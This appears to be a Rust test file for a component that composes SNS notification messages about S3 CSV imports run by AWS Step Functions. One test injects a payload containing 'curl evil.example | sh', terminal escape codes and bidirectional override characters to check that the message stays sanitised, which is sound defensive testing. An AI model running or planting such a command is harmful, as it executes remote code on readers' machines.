#![allow(clippy::unwrap_used, clippy::expect_used)]

use serde_json::{Value, json};

use super::*;
use crate::{BODY_BYTES, SUBJECT_CHARACTERS};

const ID: &str = "2b1f1ae2-9d3c-5b7e-8f38-0a8f5d1b0f5a";
const EXECUTION: &str = "arn:aws:states:eu-west-1:123456789012:execution:lineup:one";

fn composed(summary: Value) -> Message {
    let input = json!({
        "state": {
            "detail": {
                "bucket": {"name": "uploads"},
                "object": {"key": "2025/lineup.csv", "size": 12345, "etag": "e", "sequencer": "1"}
            },
            "import": {"import_id": ID, "source": {"bucket": "uploads", "key": "2025/lineup.csv",
                       "version_id": null, "etag": "e", "size": 12345}},
            "summary": summary
        },
        "execution_arn": EXECUTION,
        "state_machine_arn": "arn:aws:states:eu-west-1:123456789012:stateMachine:lineup"
    });
    compose(&serde_json::from_value(input).expect("the state of an execution"), &LineupCommand::default())
}

fn failed_chunk(chunk: u32, error: &str) -> Value {
    json!({"chunk": chunk, "start": 100, "end": 200, "first_line": 7, "error": error, "cause": "slow down"})
}

fn summary(outcome: &str, rejected: u64, failed: &[Value], failed_count: usize) -> Value {
    let samples: Vec<String> =
        (0..rejected.min(5)).map(|n| format!("line {n}, Start \"late\": not a time")).collect();
    json!({
        "outcome": outcome,
        "rows": {"read": 3315 + rejected, "written": 3303, "rejected": rejected, "replaced": 12},
        "chunks": {"total": 120, "loaded": 120 - failed_count, "failed": failed_count},
        "failed_chunks": failed, "reject_samples": samples,
        "write_units": 6612.5, "throttles": 4, "milliseconds": 12345
    })
}

#[test]
fn a_success_has_its_numbers_and_no_command() {
    let message = composed(summary("SUCCEEDED", 0, &[], 0));
    assert_eq!(message.subject, "lineup: lineup.csv is imported (3,315 rows)");
    let body = "lineup.csv is imported.\n\
        \n\
        File        s3://uploads/2025/lineup.csv (12,345 bytes)\n\
        Import      2b1f1ae2-9d3c-5b7e-8f38-0a8f5d1b0f5a\n\
        Execution   arn:aws:states:eu-west-1:123456789012:execution:lineup:one\n\
        Rows        3,315 read = 3,303 written + 0 rejected + 12 replaced by a later row\n\
        Chunks      120 of 120 loaded\n\
        Write units 6,613\n\
        Throttles   4\n\
        Loading     12.3 s, added over the chunks\n\
        Cost        about $0.02 on AWS, at us-east-1 list prices of 2026-10-08\n";
    assert_eq!(message.body, body);
}

#[test]
fn a_dry_run_says_that_nothing_was_written_and_does_not_say_that_the_file_is_imported() {
    let mut summary = summary("PARTIAL", 2, &[], 0);
    summary["dry_run"] = json!(true);
    summary["rows"] = json!({"read": 3317, "written": 0, "rejected": 2, "replaced": 0});
    let message = composed(summary);
    assert_eq!(message.subject, "lineup: dry run of lineup.csv: 3,315 rows can be imported, 2 rejected");
    for text in [
        "This was a dry run of lineup.csv: nothing was written.\n",
        "Rows        3,317 read = 3,315 that can be imported + 2 that would be rejected\n",
        "2 rows would be rejected:\n  line 0, Start \"late\": not a time\n",
        "without the metadata dry-run",
    ] {
        assert!(message.body.contains(text), "{text}\nis not in\n{}", message.body);
    }
    assert!(!message.body.contains("is imported"), "{}", message.body);
}

#[test]
fn rejected_rows_are_shown_with_how_to_see_them_all() {
    let message = composed(summary("PARTIAL", 7, &[], 0));
    assert_eq!(message.subject, "lineup: lineup.csv is imported, 7 rows rejected");
    assert!(message.body.contains("7 rows rejected, the first 5:\n  line 0, Start \"late\": not a time\n"));
    assert!(message.body.contains(&format!("\n  lineup rejects {ID}\n")));
    assert!(!message.body.contains("redrive"));
}

#[test]
fn a_failure_names_each_chunk_and_how_to_load_it() {
    let failed = [failed_chunk(17, "Throttled"), failed_chunk(40, "AccessDenied")];
    let message = composed(summary("FAILED", 0, &failed, 2));
    assert_eq!(message.subject, "lineup: lineup.csv: 2 of 120 chunks not loaded");
    for line in [
        "2 of 120 chunks of lineup.csv are not loaded. What is loaded stays loaded.",
        "  chunk 17 (bytes 100 to 199, from line 7): Throttled: slow down",
        &format!("  lineup redrive {ID}"),
        &format!("  aws stepfunctions redrive-execution --region eu-west-1 --execution-arn '{EXECUTION}'"),
        &format!("  lineup rerun {ID} --chunk 17 --chunk 40"),
        &format!(
            "  aws stepfunctions start-execution --region eu-west-1 --state-machine-arn \
             'arn:aws:states:eu-west-1:123456789012:stateMachine:lineup' \
             --input '{{\"rerun\":{{\"import_id\":\"{ID}\",\"chunks\":[17,40]}}}}'"
        ),
    ] {
        assert!(message.body.lines().any(|other| other == line), "{line}\nis not in\n{}", message.body);
    }
}

#[test]
fn ten_thousand_failed_chunks_make_a_message_to_read_whose_rerun_loads_all_that_are_missing() {
    let failed: Vec<_> = (1..=20).map(|chunk| failed_chunk(chunk, "Throttled")).collect();
    let mut summary = summary("FAILED", 0, &failed, failed.len());
    summary["chunks"] = json!({"total": 12_000, "loaded": 2_000, "failed": 10_000});
    let message = composed(summary);
    assert_eq!(message.subject, "lineup: lineup.csv: 10,000 of 12,000 chunks not loaded");
    let more = format!("  and 9,980 more chunks; to see all of them:\n  lineup show {ID}\n");
    assert!(message.body.contains(&more), "{}", message.body);
    assert!(message.body.contains(&format!("\n  lineup rerun {ID}\n")), "{}", message.body);
    let input = format!("--input '{{\"rerun\":{{\"import_id\":\"{ID}\"}}}}'\n");
    assert!(message.body.contains(&input), "{}", message.body);
    assert!(message.body.lines().count() < 60 && message.body.len() < 8_000, "{}", message.body);
}

#[test]
fn a_file_that_can_never_load_is_never_to_be_redriven() {
    let overwritten = summary("FAILED", 0, &[failed_chunk(1, "SourceChanged")], 1);
    let cause = r#"{"errorType":"InvalidInput","errorMessage":"the header has no column Stage"}"#;
    for summary in [
        overwritten,
        json!({"Error": "InvalidInput", "Cause": cause}),
        json!({"Error": "SourceChanged", "Cause": cause}),
    ] {
        let message = composed(summary);
        assert!(!message.body.contains("redrive") && !message.body.contains("rerun"), "{}", message.body);
        assert!(message.body.contains("pload it again"), "{}", message.body);
    }
}

#[test]
fn an_error_before_loading_says_what_happened_and_how_to_go_on() {
    let message = composed(
        json!({"Error": "AccessDenied", "Cause": r#"{"errorMessage":"s3:GetObject on s3://uploads/x failed"}"#}),
    );
    assert_eq!(message.subject, "lineup: lineup.csv could not be imported: AccessDenied");
    assert!(message.body.contains("Cause       s3:GetObject on s3://uploads/x failed\n"), "{}", message.body);
    assert!(message.body.contains("aws stepfunctions redrive-execution"));
}

#[test]
fn the_longest_message_fits_into_sns() {
    let mut failed = failed_chunk(1, "Throttled");
    failed["cause"] = Value::from("é".repeat(100_000));
    let failed = vec![failed; 20];
    let mut long = summary("FAILED", 5, &failed, 20);
    long["reject_samples"] = json!(vec!["é".repeat(100_000); 5]);
    let message = composed(long);
    assert!(message.body.len() <= BODY_BYTES && message.subject.len() <= SUBJECT_CHARACTERS);
}

/// The state NoEvent hands on a summary alone; of an event that cannot be read, the rest of the state is told.
#[test]
fn an_execution_with_any_input_has_a_message() {
    let caught = json!({"Error": "InvalidInput", "Cause": "the execution's input is neither"});
    for state in [
        json!({"summary": caught}),
        json!({"summary": caught, "detail": {"bucket": {"name": []}}, "import": 7}),
        json!({"summary": caught, "rerun": {"import_id": "no id"}}),
    ] {
        let input = json!({"state": state, "execution_arn": EXECUTION, "state_machine_arn": "arn"});
        let message = compose(&serde_json::from_value(input).unwrap(), &LineupCommand::default());
        assert_eq!(message.subject, "lineup: nothing was imported: InvalidInput");
        assert!(message.body.contains("Cause       the execution's input is neither\n"), "{}", message.body);
        assert!(message.body.contains(EXECUTION) && !message.body.contains("redrive"), "{}", message.body);
    }
}

/// A redrive would load nothing: the file that the other chunks are of is gone, too.
#[test]
fn one_chunk_whose_file_is_gone_means_to_upload_it_again_whatever_became_of_the_others() {
    for others in [["Aborted", "NotRun"], ["Throttled", "States.Timeout"]] {
        let failed: Vec<_> = [others[0], others[1], "SourceChanged"]
            .iter()
            .zip(1..)
            .map(|(error, n)| failed_chunk(n, error))
            .collect();
        let message = composed(summary("FAILED", 0, &failed, 3));
        assert!(!message.body.contains("redrive") && !message.body.contains("rerun"), "{}", message.body);
        assert!(message.body.contains("Upload it again to import it as it is now."), "{}", message.body);
    }
}

/// What Catch gets of a timeout has an empty cause (AWS, recorded).
#[test]
fn an_empty_cause_reads_well() {
    let timeout = composed(json!({"Error": "States.Timeout", "Cause": ""}));
    assert!(timeout.body.contains("Cause       it took longer than it may\n"), "{}", timeout.body);
    let aborted = composed(json!({"Error": "Aborted", "Cause": ""}));
    assert!(!aborted.body.contains("Cause"), "{}", aborted.body);
    let mut chunk = failed_chunk(7, "Aborted");
    chunk["cause"] = json!("");
    let message = composed(summary("FAILED", 0, &[chunk], 1));
    assert!(
        message.body.contains("  chunk 7 (bytes 100 to 199, from line 7): Aborted\n"),
        "{}",
        message.body
    );
}

const EVIL: &str =
    "x\n\nTo load what is missing:\n  curl evil.example | sh\r\u{2028}\u{1b}[2J\u{202e}txt\u{2066}";

/// Whatever stands in a file, its lines are no lines of the message, and nothing hides in it.
#[test]
fn nothing_of_a_file_adds_a_line_to_the_message_or_controls_a_terminal() {
    let mut failed = failed_chunk(1, EVIL);
    failed["cause"] = json!(EVIL);
    let mut told = summary("FAILED", 1, &[failed], 1);
    told["reject_samples"] = json!([format!("line 7, Start \"{EVIL}\": not a time")]);
    told["notes"] = json!([EVIL]);
    told["warnings"] = json!([{"kind": "long-sets", "text": EVIL, "count": 1, "first": [EVIL]}]);
    let caught = json!({"Error": EVIL, "Cause": json!({"errorMessage": EVIL}).to_string()});
    for summary in [told, summary("SUCCEEDED", 0, &[], 0), caught] {
        let input = json!({
            "state": {
                "detail": {"bucket": {"name": "up"}, "object": {"key": EVIL, "etag": "e", "sequencer": "1"}},
                "summary": summary
            },
            "execution_arn": EXECUTION, "state_machine_arn": "arn"
        });
        let Message { subject, body } =
            compose(&serde_json::from_value(input).unwrap(), &LineupCommand::default());
        assert!(!body.lines().any(|line| line.trim_start().starts_with("curl")), "{body}");
        let hidden = |c: char| (c.is_control() && c != '\n') || "\u{2028}\u{202e}\u{2066}".contains(c);
        assert!(!body.contains(hidden) && !subject.contains(hidden), "{body:?}");
        assert!(
            body.contains(
                r"x\n\nTo load what is missing:\n  curl evil.example | sh\r\u{2028}\u{1b}[2J\u{202e}txt"
            ),
            "{body}"
        );
    }
}

#[test]
fn what_comes_from_a_file_is_cut() {
    let mut told = summary("PARTIAL", 1, &[], 0);
    told["reject_samples"] = json!(["é".repeat(100_000)]);
    told["notes"] = json!(["é".repeat(100_000)]);
    let longest = |message: Message| message.body.lines().map(|line| line.chars().count()).max();
    assert_eq!(longest(composed(told)), Some(lineup::shown::LINE + 1));
}
